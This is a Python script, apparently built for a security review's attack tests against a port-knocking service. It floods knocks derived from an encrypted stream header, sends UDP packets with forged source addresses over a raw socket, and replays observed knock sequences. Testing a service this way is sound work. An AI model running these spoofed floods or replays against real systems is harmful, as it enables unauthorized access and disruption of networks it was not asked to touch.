#!/usr/bin/env python3
"""Knock floods for the attack tests, bounded in count; only to the address given.

  knock_flood.py stream SRC DST COUNT OFFSET
      The review's encrypted-knock attack: 1-byte UDP datagrams from SRC to
      DST port OFFSET+b for each byte b of the repeating stream
      "Salted__" + 8 random bytes (a new 8 every 16 knocks).
  knock_flood.py spoof DST COUNT DPORT FIRST_V4
      COUNT UDP datagrams to DST:DPORT, each from a different forged source
      FIRST_V4, FIRST_V4+1, ... (raw socket, IP header written here).
  knock_flood.py from SRC DST DELAY_MS PORT...
      One UDP knock per PORT from SRC, DELAY_MS apart (a seen sequence, resent).
"""
import os
import socket
import struct
import sys
import time


def stream(src, dst, count, offset):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    sent = 0
    block = b""
    while sent < count:
        if not block:
            block = b"Salted__" + os.urandom(8)
        b, block = block[0], block[1:]
        s.sendto(b"\0", (dst, offset + b))
        sent += 1
    print(f"sent {sent}")


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def spoof(dst, count, dport, first):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    base = struct.unpack("!I", socket.inet_aton(first))[0]
    daddr = socket.inet_aton(dst)
    for i in range(count):
        saddr = struct.pack("!I", base + i)
        udp = struct.pack("!HHHH", 40000, dport, 9, 0) + b"\0"
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, 17, 0, saddr, daddr)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        s.sendto(ip + udp, (dst, 0))
    print(f"sent {count}")


def from_src(src, dst, delay_ms, ports):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    for p in ports:
        s.sendto(b"\0", (dst, p))
        time.sleep(delay_ms / 1000)
    print(f"sent {len(ports)}")


def main():
    mode, args = sys.argv[1], sys.argv[2:]
    if mode == "stream":
        stream(args[0], args[1], int(args[2]), int(args[3]))
    elif mode == "spoof":
        spoof(args[0], int(args[1]), int(args[2]), args[3])
    elif mode == "from":
        from_src(args[0], args[1], float(args[2]), [int(p) for p in args[3:]])
    else:
        sys.exit(f"unknown mode {mode}")


main()
